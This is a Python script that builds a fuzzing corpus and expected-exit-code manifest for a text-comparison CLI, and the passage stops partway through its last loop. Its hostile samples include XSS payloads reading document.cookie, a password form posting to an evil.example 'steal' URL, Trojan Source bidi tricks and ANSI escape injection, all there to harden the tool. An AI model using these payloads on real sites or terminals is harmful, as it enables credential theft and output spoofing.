"""Writes the committed bad-input corpus (files/) and its manifest (cases.json).

    .venv/bin/python tests/badinput/build_corpus.py

Deterministic: running it again rewrites the same bytes. Inputs that cannot or should not
be committed (20 MB files, 100 000 sentences, symlinks, a FIFO, chmod 000, devices, odd
file names) are made at test time by tests/test_badinput.py (`_make` there); the manifest
refers to every input as ``@name``.

Expected exit codes: 0 no major finding, 1 major findings, 2 usage error, 3 unreadable or
empty input / over a limit / a bad `score` line / a bad `trace` document, 5 unrelated (not
a copy). "ok" below means {0, 1}: a valid text whose verdict is not the point of the case;
"any verdict" {0, 1, 5} for `compare` of the base story against a hostile text, which may
share too little with it to be a copy.
"""

from __future__ import annotations

import codecs
import json
import random
from pathlib import Path

HERE = Path(__file__).resolve().parent
FILES = HERE / "files"

OK = [0, 1]
ANY_VERDICT = [0, 1, 5]  # compare of the base story against a hostile text: may be unrelated

BASE = """KYIV, Ukraine (AP) — Ukraine's parliament approved a budget of 1.2 trillion hryvnias on Tuesday, the speaker said.

The vote passed with 256 lawmakers in favour, according to Ruslan Stefanchuk. "This is a budget of survival," he told reporters in Kyiv.

Prime Minister Denys Shmyhal said the government would spend 22 percent of the money on defence. Officials did not say when the first payments would arrive.

The European Union pledged another 50 billion euros in March 2024. Analysts at the National Bank expect inflation to slow to 8.5% by December.
"""

COPY_NUMBER = BASE.replace("256 lawmakers", "265 lawmakers")
COPY_NEGATION = BASE.replace("Officials did not say", "Officials did say")

GERMAN = """KIEW, Ukraine (AP) — Das ukrainische Parlament hat am Dienstag einen Haushalt von 1,2 Billionen Hrywnja gebilligt, sagte der Parlamentspräsident.

Die Abstimmung wurde mit 256 Abgeordneten angenommen, so Ruslan Stefantschuk. „Das ist ein Haushalt des Überlebens", sagte er Reportern in Kiew.

Ministerpräsident Denys Schmyhal sagte, die Regierung werde 22 Prozent des Geldes für die Verteidigung ausgeben.
"""

RUSSIAN = """КИЕВ, Украина (AP) — Парламент Украины во вторник утвердил бюджет в размере 1,2 триллиона гривен, сообщил спикер.

За проголосовали 256 депутатов, сообщил Руслан Стефанчук. «Это бюджет выживания», — сказал он журналистам в Киеве.
"""

MIXED = """Ukraine's parliament (Верховна Рада) approved the budget on Tuesday. 乌克兰议会周二批准了预算。
البرلمان الأوكراني وافق على الميزانية يوم الثلاثاء. The vote passed 🇺🇦 with 256 lawmakers 👍🏽 in favour.
Ελληνικά κείμενα εδώ. हिन्दी में वाक्य। 한국어 문장입니다. 日本語の文です。 ภาษาไทยไม่มีจุด
"""

CJK_STOPS = "乌克兰议会周二批准了1.2万亿格里夫纳的预算。议长表示，共有256名议员投票赞成。“这是一个生存预算，”他对记者说。\n"
CJK_NO_STOPS = ("乌克兰议会周二批准了预算议长表示共有二百五十六名议员投票赞成这是一个生存预算他对记者说" * 60) + "\n"

RTL = (
    "\u202eThe vote passed with 256 lawmakers.\u202c This line has a right-to-left override.\n"
    "\u200fالبرلمان وافق\u200e on the budget of 1.2 trillion\u2067 hryvnias\u2069 on Tuesday.\n"
    "A Trojan Source line: access = \"user\u202e \u2066// admin only\u2069 \u2066\" said the speaker.\n"
)

ZERO_WIDTH = (
    "Ukr\u200baine's par\u200cliament app\u200droved a bud\u2060get of 1.2\u200b trillion hryvnias on Tuesday.\n"
    "The vote\ufeff passed with 2\u200b56 lawmakers in favour, according to Ruslan Stefanchuk.\n"
)

COMBINING = (
    "Z\u0351\u0356a\u0308\u0301l\u0303g\u0327o\u0336 t\u0334e\u0335x\u0338t approved the budget of 1.2 trillion hryvnias on Tuesday.\n"
    "The vote passed with 256 lawmakers, said Ruslan Stefanchuk. Cafe\u0301 and cafe are the same word.\n"
    "\u0301\u0302\u0303 A line that starts with combining marks.\n"
)

ZALGO_DENSE = "Z" + "\u0336\u0351\u0356\u0308" * 2500 + "algo approved the budget on Tuesday.\n"

EMOJI = "👨‍👩‍👧‍👦 The family 🏳️‍🌈 voted 👍🏽👍🏿 for the budget 🇺🇦🇪🇺. 💰💰💰 1.2 trillion 🤑. 😀😀😀😀😀😀😀😀\n"

ASTRAL = (
    "𝐓𝐡𝐞 𝐯𝐨𝐭𝐞 passed with 𝟐𝟓𝟔 lawmakers. Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ２５６ votes.\n"
    "Private use \ue000\uf8ff and noncharacters \ufdd0\ufffe\uffff and \U0010fffd here. Ⅻ ① ½ ٣ ۴ ߃ numbers.\n"
)

HTML_SCRIPT = """<html><head><title>Budget</title><script>alert(document.cookie)</script></head>
<body onload="alert(1)">
<h1>Ukraine's parliament approved a budget of 1.2 trillion hryvnias on Tuesday.</h1>
<iframe src="javascript:alert(2)" onload="alert(3)"></iframe>
<p>The vote passed with 256 lawmakers in favour.<img src=x onerror=alert(4)></p>
<a href="javascript:alert(5)">Click here</a> <svg/onload=alert(6)> <style>body{display:none}</style>
<!-- a comment --> <![CDATA[ cdata ]]> &lt;already escaped&gt; &amp;amp; &#x3C;script&#x3E;
</body></html>
"""

HTML_FULLPAGE = """<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8"><meta http-equiv="refresh" content="0;url=http://evil.example/">
<base href="http://evil.example/"><link rel="stylesheet" href="//evil.example/x.css"></head>
<body><nav><a href="/">Home</a> | <a href="/world">World</a> | <a href="/politics">Politics</a></nav>
<article><p>Ukraine's parliament approved a budget of 1.2 trillion hryvnias on Tuesday, the speaker said.</p>
<p>The vote passed with 256 lawmakers in favour, according to Ruslan Stefanchuk.</p></article>
<form action="http://evil.example/steal"><input name="password" type="password"></form>
<footer>© 2024 Example News. All rights reserved. Share on Facebook. Subscribe to our newsletter.</footer>
</body></html>
"""

MARKDOWN = """# Ukraine's parliament approved a budget

**The vote** passed with _256_ lawmakers in favour. [Click me](javascript:alert(1)) ![img](http://evil.example/x.png "title")

| table | of | things |
|---|---|---|
| 1.2 | trillion | hryvnias |

```html
<script>alert(1)</script>
```

> A quote block: "This is a budget of survival," he said.
* bullet one
* bullet two [^1]

[^1]: A footnote. <details><summary>x</summary>hidden</details> ~~strike~~ `code`
"""

ANSI = (
    "Ukraine's \x1b[31mparliament\x1b[0m approved a budget of 1.2 trillion hryvnias on Tuesday.\n"
    "\x1b]0;pwned title\x07The vote passed with 256 lawmakers.\x1b[2J\x1b[H Screen cleared?\n"
    "\x1b]8;;http://evil.example/\x1b\\a hyperlink\x1b]8;;\x1b\\ and a C1 CSI \x9b31m red \x9b0m here.\n"
    "Carriage return overwrite: SAFE TEXT\rEVIL TEXT and back\x08\x08\x08spaces and a bell \x07.\n"
    "\x1bP+q544e\x1b\\ a DCS query, \x1b[6n a cursor report request, \x1b[?1049h alternate screen.\n"
)
ANSI_COPY = ANSI.replace("256 lawmakers", "\x1b[5m265\x1b[0m lawmakers")

RICH_MARKUP = (
    "[bold red]Ukraine's parliament[/bold red] approved a [link=http://evil.example]budget[/link] on Tuesday.\n"
    "The vote passed with [blink]256[/] lawmakers :smile: :warning: \\[escaped] [/] [on red]x.\n"
)

CONTROL = "".join(chr(c) for c in range(0x01, 0x20) if chr(c) not in "\n\t") + " The vote passed. " + "".join(
    chr(c) for c in range(0x7F, 0xA0)
) + " The budget was approved on Tuesday.\n"

SEPARATORS = (
    "The vote passed.\x0bA vertical tab.\x0cA form feed.\x1cFile sep.\x1dGroup sep.\x1eRecord sep.\x85Next line."
    "\u2028Line separator.\u2029Paragraph separator. Done.\n"
)

NUMBERS = (
    "The budget was " + "7" * 5000 + " hryvnias. It was 1e308 or 1e999 or NaN or Infinity or -0.\n"
    "Counts: 1,000,000,000,000,000,000,000 and 99,99 and 1.234,5 and 10-15 and 3.14.15.92 and 0x1F and 1/0.\n"
    "Dates: February 30, 2024; Sept. 31; 0000-00-00; 9999-99-99; year 99999; 25:61 p.m.; 31/31/31.\n"
)
NUMBERS_COPY = NUMBERS.replace("7" * 5000, "7" * 4999 + "8").replace("99,99", "99,98")

REGEX_STRESS = (
    "U.S." * 2000 + " " + "Mr. " * 1000 + "\n" + "a.a." * 2000 + "\n" + "1.1." * 2000 + "\n"
    + ". " * 2000 + "\n" + "…" * 2000 + "\n" + "?!" * 2000 + "\n" + "\"'“”‘’" * 500 + "\n"
    + "(" * 2000 + ")" * 2000 + "\n" + "e.g. i.e. vs. cf. " * 300 + "\n" + "1) a 2) b 3) c " * 300 + "\n"
)

MANY_DOTS = "." * 20_000 + "\n"
LONG_WORD = "a" * 20_000 + "\n"
URL_SOUP = " ".join(
    f"https://example.com/{'x' * 200}/{i}?q={'%20' * 50}&u=javascript:alert({i}) user{i}@example.com"
    for i in range(50)
) + "\n"

NO_PUNCT = " ".join(
    random.Random(5).choice("the budget vote parliament lawmakers speaker kyiv tuesday money defence".split())
    for _ in range(1200)
) + "\n"
NO_PUNCT_LINES = "\n".join(
    "the budget was approved on tuesday by the lawmakers in kyiv" for _ in range(40)
) + "\n"

CHROME_ONLY = """Home | World | Politics | Business
Share on Facebook
Share on Twitter
Subscribe to our newsletter
Advertisement
Read more
© 2024 Example News. All rights reserved.
"""

REPEATED = " ".join(["The parliament approved the budget on Tuesday."] * 1500) + "\n"
REPEATED_COPY = " ".join(["The parliament approved the budget on Wednesday."] * 1500) + "\n"


def sentences(text: str) -> list[str]:
    from drift.segment import split_sentences

    return [text[a:b] for a, b in split_sentences(text)]


def reversed_order(text: str) -> str:
    return " ".join(reversed(sentences(text))) + "\n"


def char_reversed(text: str) -> str:
    return text[::-1]


def binary_files() -> dict[str, bytes]:
    b = BASE.encode("utf-8")
    return {
        "nul_start.txt": b"\x00" + b,
        "nul_middle.txt": b[:100] + b"\x00" + b[100:],
        "nul_late.txt": b * 30 + b"\x00 late NUL byte after the first 8 KiB.\n",
        "binary_png.txt": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        "gzip.txt": b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + bytes(range(256)),
        "latin1.txt": BASE.replace("—", "-").encode("latin-1", "replace") + "Café crème à la façon.\n".encode("latin-1"),
        "cp1252_quotes.txt": "\u201cSmart quotes\u201d in Windows-1252 \u2014 dash.\n".encode("cp1252"),
        "truncated_utf8.txt": b + "é".encode("utf-8")[:1],
        "overlong_utf8.txt": b"The vote \xc0\xaf passed.\n",
        "surrogate_utf8.txt": b"The vote \xed\xa0\x80 passed.\n",
        "invalid_continuation.txt": b"The vote \xe2\x28\xa1 passed.\n",
        "shift_jis.txt": "日本語の文です。予算が承認されました。\n".encode("shift_jis"),
        "gb18030.txt": "乌克兰议会周二批准了预算。\n".encode("gb18030"),
        "utf16le_bom.txt": codecs.BOM_UTF16_LE + BASE.encode("utf-16-le"),
        "utf16be_bom.txt": codecs.BOM_UTF16_BE + BASE.encode("utf-16-be"),
        "utf16le_no_bom.txt": BASE.encode("utf-16-le"),
        "utf16_odd_length.txt": codecs.BOM_UTF16_LE + BASE.encode("utf-16-le") + b"\x41",
        "utf16_lone_surrogate.txt": codecs.BOM_UTF16_LE + "The vote ".encode("utf-16-le") + b"\x00\xd8" + " passed.".encode("utf-16-le"),
        "utf16_bom_only.txt": codecs.BOM_UTF16_LE,
        "utf16_whitespace.txt": codecs.BOM_UTF16_LE + " \n\t ".encode("utf-16-le"),
        "utf32le_bom.txt": codecs.BOM_UTF32_LE + BASE.encode("utf-32-le"),
        "utf32be_bom.txt": codecs.BOM_UTF32_BE + BASE.encode("utf-32-be"),
        "utf8_bom.txt": codecs.BOM_UTF8 + b,
        "utf8_bom_only.txt": codecs.BOM_UTF8,
        "crlf.txt": BASE.replace("\n", "\r\n").encode("utf-8"),
        "cr_only.txt": BASE.replace("\n", "\r").encode("utf-8"),
        "empty.txt": b"",
        "whitespace.txt": b"   \n\t\t\r\n   \n",
        "newlines.txt": b"\n" * 500,
        "unicode_spaces.txt": "\u00a0\u2003\u3000\u2009\u202f\u205f\n".encode("utf-8"),
        "zero_width_only.txt": "\u200b\u200c\u200d\u2060\ufeff\n".encode("utf-8"),
        "one_word.txt": b"Hello",
        "one_char.txt": b"x",
        "one_period.txt": b".",
        "one_emoji.txt": "👍".encode("utf-8"),
        "one_line_no_newline.txt": b"The parliament approved the budget on Tuesday",
    }


def text_files() -> dict[str, str]:
    return {
        "base.txt": BASE,
        "copy_identical.txt": BASE,
        "copy_number.txt": COPY_NUMBER,
        "copy_negation.txt": COPY_NEGATION,
        "copy_reversed_sentences.txt": reversed_order(BASE),
        "copy_reversed_chars.txt": char_reversed(BASE),
        "copy_german.txt": GERMAN,
        "copy_russian.txt": RUSSIAN,
        "copy_chrome_only.txt": CHROME_ONLY,
        "mixed_scripts.txt": MIXED,
        "cjk_stops.txt": CJK_STOPS,
        "cjk_no_stops.txt": CJK_NO_STOPS,
        "rtl_bidi.txt": RTL,
        "zero_width.txt": ZERO_WIDTH,
        "combining.txt": COMBINING,
        "zalgo_dense.txt": ZALGO_DENSE,
        "emoji.txt": EMOJI,
        "astral.txt": ASTRAL,
        "html_script.txt": HTML_SCRIPT,
        "html_fullpage.txt": HTML_FULLPAGE,
        "markdown.txt": MARKDOWN,
        "ansi.txt": ANSI,
        "ansi_copy.txt": ANSI_COPY,
        "rich_markup.txt": RICH_MARKUP,
        "control_chars.txt": CONTROL,
        "separators.txt": SEPARATORS,
        "numbers.txt": NUMBERS,
        "numbers_copy.txt": NUMBERS_COPY,
        "regex_stress.txt": REGEX_STRESS,
        "many_dots.txt": MANY_DOTS,
        "long_word.txt": LONG_WORD,
        "url_soup.txt": URL_SOUP,
        "no_punct.txt": NO_PUNCT,
        "no_punct_lines.txt": NO_PUNCT_LINES,
        "repeated_sentence.txt": REPEATED,
        "repeated_sentence_copy.txt": REPEATED_COPY,
    }


def jsonl_files() -> dict[str, bytes]:
    good = {"id": "g1", "original": "The vote passed with 256 lawmakers.", "copy": "The vote passed with 265 lawmakers."}
    ok = {"id": "g2", "original": "The budget was approved.", "copy": "The budget was approved."}

    def lines(*items) -> bytes:
        return ("\n".join(i if isinstance(i, str) else json.dumps(i, ensure_ascii=False) for i in items) + "\n").encode("utf-8")

    return {
        "score_good.jsonl": lines(good, ok),
        "score_not_json.jsonl": lines("this is not json", good),
        "score_truncated.jsonl": lines('{"id": "t", "original": "The vote', good),
        "score_array.jsonl": lines("[1, 2, 3]", '"a string"', "42", "null", "true", ok),
        "score_missing_fields.jsonl": lines({"id": "m1"}, {"id": "m2", "original": "x"}, {"original": "x", "copy": "y"}, ok),
        "score_wrong_types.jsonl": lines(
            {"id": "w1", "original": 5, "copy": "x"}, {"id": "w2", "original": None, "copy": "x"},
            {"id": "w3", "original": ["a"], "copy": {"b": 1}}, {"id": {"nested": [1, 2]}, "original": "a", "copy": "a"}, ok,
        ),
        "score_empty_strings.jsonl": lines({"id": "e1", "original": "", "copy": ""}, {"id": "e2", "original": "   ", "copy": "\n"}, ok),
        "score_too_long.jsonl": lines({"id": "l1", "original": "word " * 4001, "copy": "x"}, ok),
        "score_nan.jsonl": lines('{"id": NaN, "original": "a", "copy": "a"}', '{"id": Infinity, "original": "a", "copy": "a"}', '{"id": 1e999, "original": "a", "copy": "a"}', ok),
        "score_bigint.jsonl": lines('{"id": ' + "9" * 5000 + ', "original": "a", "copy": "a"}', ok),
        "score_deep.jsonl": lines("[" * 3_000 + "]" * 3_000, ok),
        "score_surrogates.jsonl": lines('{"id": "s1", "original": "The \\ud800 vote", "copy": "The vote"}', '{"id": "\\udfff", "original": "a", "copy": "a"}', ok),
        "score_control_id.jsonl": lines({"id": "\x1b[2J\x1b]0;pwned\x07\n", "original": "The \x1b[31mvote\x1b[0m passed.", "copy": "The vote passed."}, ok),
        "score_html.jsonl": lines({"id": "<script>alert(1)</script>", "original": HTML_SCRIPT[:500], "copy": HTML_SCRIPT[:480]}),
        "score_hostile_text.jsonl": lines(
            {"id": "rtl", "original": RTL.splitlines()[0], "copy": RTL.splitlines()[1]},
            {"id": "zalgo", "original": COMBINING.splitlines()[0], "copy": COMBINING.splitlines()[1]},
            {"id": "emoji", "original": EMOJI, "copy": EMOJI[::-1]},
            {"id": "nul", "original": "The vote\x00 passed.", "copy": "The vote passed."},
            {"id": "cjk", "original": CJK_STOPS, "copy": CJK_STOPS.replace("256", "265")},
            {"id": "numbers", "original": NUMBERS[:3000], "copy": NUMBERS_COPY[:3000]},
        ),
        "score_blank_lines.jsonl": b"\n\n   \n\t\n" + lines(ok) + b"\n\n",
        "score_only_blank.jsonl": b"\n\n\n \n",
        "score_crlf.jsonl": lines(good, ok).replace(b"\n", b"\r\n"),
        "score_bom.jsonl": codecs.BOM_UTF8 + lines(ok, good),
        "score_duplicate_keys.jsonl": lines('{"id": "d", "original": "a", "original": "The vote passed.", "copy": "The vote passed."}'),
        "score_trailing_garbage.jsonl": lines('{"id": "t", "original": "a", "copy": "a"} trailing', ok),
        "score_invalid_utf8.jsonl": lines(ok) + b'{"id": "x", "original": "caf\xe9", "copy": "cafe"}\n',
        "score_nul.jsonl": b"\x00" + lines(ok),
        "score_many_bad.jsonl": lines(*(["{bad json"] * 300), ok),
        "trace_feed.jsonl": lines(
            {"id": "wire", "text": BASE, "published": "2024-03-05T10:00:00Z"},
            {"id": "copy", "text": COPY_NUMBER, "published": "not a date"},
            {"id": "empty", "text": "   "},
            {"id": "nul", "text": "a\x00b"},
            {"id": "", "text": "no id"},
            {"id": "wire", "text": "a duplicated id"},
            {"id": "\x1b[2Jesc", "text": "Some text with an escape in its id."},
            {"text": 5},
            "not json",
            {"id": "chrome", "text": CHROME_ONLY},
            {"id": 7, "text": GERMAN, "published": "9" * 500},
        ),
        "trace_bad_only.jsonl": lines("not json", {"id": "x"}, {"id": "y", "text": ""}),
    }


def cases() -> list[dict]:
    out: list[dict] = []

    def add(cid, argv, exit_codes, stderr=None, *, stdin=None, stdout=None, timeout=90, heavy=False, env=None, input_=None):
        out.append(
            {
                "id": cid,
                "input": input_ or next((a[1:] for a in argv[1:] if a.startswith("@") and a != "@base.txt"), None),
                "argv": argv,
                "stdin": stdin,
                "exit": exit_codes,
                "stderr": stderr,
                "stdout": stdout,
                "timeout": timeout,
                "heavy": heavy,
                **({"env": env} if env else {}),
            }
        )

    cmp_ = ["compare"]
    nolm = ["--no-lm"]
    # --- unreadable / empty / binary / encodings: as the copy (and a few as the original)
    errors = {
        "empty.txt": "empty", "whitespace.txt": "empty", "newlines.txt": "empty", "unicode_spaces.txt": "empty",
        "utf16_bom_only.txt": "empty", "utf16_whitespace.txt": "empty",
        "nul_start.txt": "binary", "nul_middle.txt": "binary", "binary_png.txt": "binary", "gzip.txt": "binary",
        "latin1.txt": "not valid UTF-8", "cp1252_quotes.txt": "not valid UTF-8", "truncated_utf8.txt": "not valid UTF-8",
        "overlong_utf8.txt": "not valid UTF-8", "surrogate_utf8.txt": "not valid UTF-8",
        "invalid_continuation.txt": "not valid UTF-8", "shift_jis.txt": "not valid UTF-8", "gb18030.txt": "not valid UTF-8",
        "utf16le_no_bom.txt": "binary", "utf16_odd_length.txt": "UTF-16", "utf16_lone_surrogate.txt": "UTF-16",
        "utf32le_bom.txt": "UTF-32", "utf32be_bom.txt": "UTF-32",
        "@missing.txt": "no such file", "@dir": "is a directory", "@fifo.txt": "not a regular file",
        "@dev_zero": "not a regular file", "@dev_null": "not a regular file", "@dev_urandom": "not a regular file",
        "@symlink_dangling.txt": "no such file", "@symlink_loop.txt": "no such file",
        "@not_a_dir_path": "no such file", "@long_name": "cannot read",
        "@missing_escape_name": "no such file", "@over_20mib.txt": "MiB limit",
        "@sentences_5001.txt": "over the limit of 5000",
    }
    for name, frag in errors.items():
        ref = name if name.startswith("@") else "@" + name
        add(f"compare/copy/{ref[1:]}", cmp_ + ["@base.txt", ref] + nolm, [3], frag)
    for name in ("empty.txt", "nul_start.txt", "latin1.txt", "@fifo.txt", "@dir", "@symlink_loop.txt"):
        ref = name if name.startswith("@") else "@" + name
        add(f"compare/original/{ref[1:]}", cmp_ + [ref, "@base.txt"] + nolm, [3])
    # --- valid but hostile texts: as the copy, terminal output (stdout checked for control characters)
    valid = [
        "zero_width_only.txt", "one_word.txt", "one_char.txt", "one_period.txt", "one_emoji.txt",
        "one_line_no_newline.txt", "nul_late.txt", "utf16le_bom.txt", "utf16be_bom.txt", "utf8_bom.txt",
        "utf8_bom_only.txt", "crlf.txt", "cr_only.txt", "copy_identical.txt", "copy_reversed_sentences.txt",
        "copy_reversed_chars.txt", "copy_german.txt", "copy_russian.txt", "copy_chrome_only.txt", "mixed_scripts.txt",
        "cjk_stops.txt", "cjk_no_stops.txt", "rtl_bidi.txt", "zero_width.txt", "combining.txt", "zalgo_dense.txt",
        "emoji.txt", "astral.txt", "html_script.txt", "html_fullpage.txt", "markdown.txt", "ansi.txt",
        "rich_markup.txt", "control_chars.txt", "separators.txt", "numbers.txt", "regex_stress.txt",
        "many_dots.txt", "long_word.txt", "url_soup.txt", "no_punct.txt", "no_punct_lines.txt",
        "@symlink_to_base.txt", "@escape_name.txt",
    ]
    for name in valid:
        ref = name if name.startswith("@") else "@" + name
        add(f"compare/copy/{ref[1:]}", cmp_ + ["@base.txt", ref, "--all"] + nolm, ANY_VERDICT)
    # /proc files look regular but are never read (issue 15)
    add("compare/copy/proc_version", cmp_ + ["@base.txt", "@proc_version", "--all"] + nolm, [3], "not a regular file")
    for name in ("ansi.txt", "rtl_bidi.txt", "control_chars.txt", "html_script.txt", "regex_stress.txt", "cjk_no_stops.txt"):
        add(f"compare/original/{name}", cmp_ + ["@" + name, "@base.txt", "--all"] + nolm, ANY_VERDICT)
    # chmod 000: unreadable for a user, readable for root (the tests may run as either)
    add("compare/copy/chmod_000.txt", cmp_ + ["@base.txt", "@chmod_000.txt"] + nolm, [0, 1, 3])
    # --- expected verdicts
    add("compare/identical", cmp_ + ["@base.txt", "@copy_identical.txt"] + nolm, [0], stdout="No changes")
    add("compare/identical-quiet", cmp_ + ["@base.txt", "@copy_identical.txt", "-q"] + nolm, [0], stdout="drift_index=0.0000")
    add("compare/same-file-twice", cmp_ + ["@base.txt", "@base.txt", "-q"] + nolm, [0], stdout="drift_index=0.0000", input_="base.txt")
    add("compare/number-swapped", cmp_ + ["@base.txt", "@copy_number.txt"] + nolm, [1], stdout="number")
    add("compare/negation", cmp_ + ["@base.txt", "@copy_negation.txt", "-q"] + nolm, [1])
    add("compare/ansi-number-json", cmp_ + ["@ansi.txt", "@ansi_copy.txt", "--format", "json"] + nolm, [1])
    add("compare/ansi-number-terminal", cmp_ + ["@ansi.txt", "@ansi_copy.txt"] + nolm, [1])
    add("compare/ansi-forced-colour", cmp_ + ["@ansi.txt", "@ansi_copy.txt"] + nolm, [1], env={"FORCE_COLOR": "1", "TERM": "xterm-256color"})
    # a 5 000-digit number beside a small changed one: read and judged without a crash (any verdict)
    add("compare/numbers-5000-digits", cmp_ + ["@numbers.txt", "@numbers_copy.txt", "--format", "json"] + nolm, ANY_VERDICT)
    add("compare/repeated-1500", cmp_ + ["@repeated_sentence.txt", "@repeated_sentence_copy.txt", "-q"] + nolm, OK, timeout=240)
    # --- other formats over hostile text
    for name in ("ansi.txt", "rtl_bidi.txt", "control_chars.txt", "html_script.txt", "astral.txt", "nul_late.txt", "combining.txt"):
        add(f"compare/json/{name}", cmp_ + ["@base.txt", "@" + name, "--format", "json"] + nolm, ANY_VERDICT)
        add(f"compare/quiet/{name}", cmp_ + ["@base.txt", "@" + name, "-q"] + nolm, ANY_VERDICT)
    for name in ("html_script.txt", "html_fullpage.txt", "ansi.txt", "markdown.txt"):
        add(f"compare/html/{name}", cmp_ + ["@base.txt", "@" + name, "--format", "html"] + nolm, ANY_VERDICT)
        add(f"compare/markdown/{name}", cmp_ + ["@base.txt", "@" + name, "--format", "markdown"] + nolm, ANY_VERDICT)
    # --- standard input
    for name, codes, frag in (
        ("base.txt", OK, None), ("empty.txt", [3], "empty"), ("latin1.txt", [3], "UTF-8"), ("nul_start.txt", [3], "binary"),
        ("utf16le_bom.txt", OK, None), ("@dev_zero", [3], "limit"), ("@dev_null", [3], "empty"),
    ):
        ref = name if name.startswith("@") else "@" + name
        add(f"compare/stdin/{ref[1:]}", cmp_ + ["-", "@base.txt", "-q"] + nolm, codes, frag, stdin=ref, input_=ref[1:])
    add("compare/stdin/both", cmp_ + ["-", "-"] + nolm, [2], "standard input", stdin="@base.txt", input_="base.txt")
    # --- size and count limits (generated at test time)
    add("compare/heavy/line-20mb", cmp_ + ["@huge_line_20mb.txt", "@base.txt", "-q"] + nolm, [3], "over the limit", timeout=240, heavy=True)
    add("compare/heavy/sentences-100k", cmp_ + ["@base.txt", "@sentences_100k.txt", "-q"] + nolm, [3], "over the limit", timeout=240, heavy=True)
    add("compare/heavy/newlines-20mb", cmp_ + ["@base.txt", "@newlines_20mb.txt", "-q"] + nolm, [3], "empty", timeout=120, heavy=True)
    add("compare/pairs-over-limit", cmp_ + ["@sentences_2100.txt", "@sentences_2100_copy.txt", "-q"] + nolm, [3], "sentence pairs", timeout=180)
    add("compare/repeated-both-over-limit", cmp_ + ["@sentences_2100.txt", "@sentences_2100.txt", "-q"] + nolm, [3], "sentence pairs", timeout=180, input_="sentences_2100.txt")
    # --- usage errors
    add("usage/compare-one-arg", cmp_ + ["@base.txt"], [2], input_="base.txt")
    add("usage/compare-bad-format", cmp_ + ["@base.txt", "@base.txt", "--format", "pdf"], [2], input_="base.txt")
    add("usage/compare-unknown-option", cmp_ + ["@base.txt", "@base.txt", "--frobnicate"], [2], input_="base.txt")
    add("usage/compare-output-dir", cmp_ + ["@base.txt", "@copy_number.txt", "-o", "@dir"] + nolm, [2], "directory")
    add("usage/compare-output-overwrites-input", cmp_ + ["@base.txt", "@copy_number.txt", "-o", "@copy_number.txt"] + nolm, [2], "overwrite")
    add("usage/score-format", ["score", "@score_good.jsonl", "--format", "json"], [2], "jsonl")
    add("usage/score-batch-zero", ["score", "@score_good.jsonl", "--batch-size", "0"], [2])
    add("usage/trace-no-args", ["trace"], [2], input_="(none)")
    add("usage/no-command", [], [0, 2], input_="(none)")
    add("usage/unknown-command", ["frobnicate"], [2], input_="(none)")
    # --- score
    score_expect = {
        "score_good.jsonl": OK, "score_not_json.jsonl": [3], "score_truncated.jsonl": [3], "score_array.jsonl": [3],
        "score_missing_fields.jsonl": [3], "score_wrong_types.jsonl": [3], "score_empty_strings.jsonl": OK,
        "score_too_long.jsonl": [3], "score_nan.jsonl": [3], "score_bigint.jsonl": [3], "score_deep.jsonl": [3],
        "score_surrogates.jsonl": [3], "score_control_id.jsonl": OK, "score_html.jsonl": OK,
        "score_hostile_text.jsonl": OK, "score_blank_lines.jsonl": OK, "score_only_blank.jsonl": [3],
        "score_crlf.jsonl": OK, "score_bom.jsonl": OK, "score_duplicate_keys.jsonl": OK,
        "score_trailing_garbage.jsonl": [3], "score_many_bad.jsonl": [3], "base.txt": [3],
    }
    for name, codes in score_expect.items():
        add(f"score/{name}", ["score", "@" + name], codes, input_=name)
    for name, frag in (
        ("score_nul.jsonl", "binary"), ("empty.txt", "empty"),
        ("@dir", "directory"), ("@fifo.txt", "not a regular file"), ("@missing.txt", "no such file"),
        ("@dev_zero", "not a regular file"),
    ):
        ref = name if name.startswith("@") else "@" + name
        add(f"score/{ref[1:]}", ["score", ref], [3], frag)
    # JSONL is streamed: a line that is not UTF-8 is one error line in the output, the rest is scored.
    add("score/score_invalid_utf8.jsonl", ["score", "@score_invalid_utf8.jsonl"], [3], stdout="UTF-8")
    add("score/stdin", ["score", "-"], OK, stdin="@score_good.jsonl", input_="score_good.jsonl")
    add("score/stdin-dev-zero", ["score", "-"], [3], "limit", stdin="@dev_zero", input_="dev_zero")
    add("score/heavy/pairs-20000", ["score", "@score_20000_lines.jsonl"], OK, timeout=240, heavy=True)
    # --- trace
    add("trace/good-pair", ["trace", "@base.txt", "@copy_number.txt"], [0], input_="copy_number.txt")
    add("trace/good-pair-json", ["trace", "@base.txt", "@copy_number.txt", "--format", "json"], [0], input_="copy_number.txt")
    add("trace/compare", ["trace", "@base.txt", "@copy_number.txt", "--compare"], OK, input_="copy_number.txt")
    add("trace/feed-jsonl", ["trace", "@trace_feed.jsonl"], [3], "skipped")
    add("trace/feed-jsonl-json", ["trace", "@trace_feed.jsonl", "--format", "json"], [3], "skipped", input_="trace_feed.jsonl")
    add("trace/bad-only", ["trace", "@trace_bad_only.jsonl"], [3])
    add("trace/hostile-texts", ["trace", "@ansi.txt", "@rtl_bidi.txt", "@html_script.txt", "@control_chars.txt", "@combining.txt", "@escape_name.txt"], [0, 3], input_="ansi.txt+rtl_bidi.txt+...")
    add("trace/dir-mixed", ["trace", "@trace_dir"], [3], "skipped", timeout=240, input_="trace_dir")
    for name, frag in (("empty.txt", "empty"), ("nul_start.txt", "binary"), ("@fifo.txt", "not a regular file"),
                       ("@missing.txt", "no such file"), ("@dev_zero", "not a regular file"), ("@symlink_loop.txt", "no such file"),
                       ("score_nan.jsonl", None), ("@sentences_5001.txt", "over the limit")):
        ref = name if name.startswith("@") else "@" + name
        add(f"trace/{ref[1:]}", ["trace", ref, "@base.txt"], [3], frag)
    add("trace/heavy/line-20mb", ["trace", "@huge_line_20mb.txt", "@base.txt"], [3], "over the limit", timeout=240, heavy=True)
    # --- audit / report: run only where the command exists (checked at test time). %TMP% is
    # the case's own temporary folder (the audit database never lands in the repository).
    db = ["--db", "%TMP%/audit.sqlite"]
    add("audit/help", ["audit", "--help"], [0], input_="(none)")
    add("audit/hostile-dir", ["audit", "@trace_dir", "-q"] + db, [0, 1, 3], timeout=300, input_="trace_dir")
    add("audit/feed-jsonl", ["audit", "@trace_feed.jsonl", "-q"] + db, [0, 1, 3], timeout=300)
    for name in ("@fifo.txt", "@missing.txt", "empty.txt", "nul_start.txt", "@dev_zero", "@symlink_loop.txt"):
        ref = name if name.startswith("@") else "@" + name
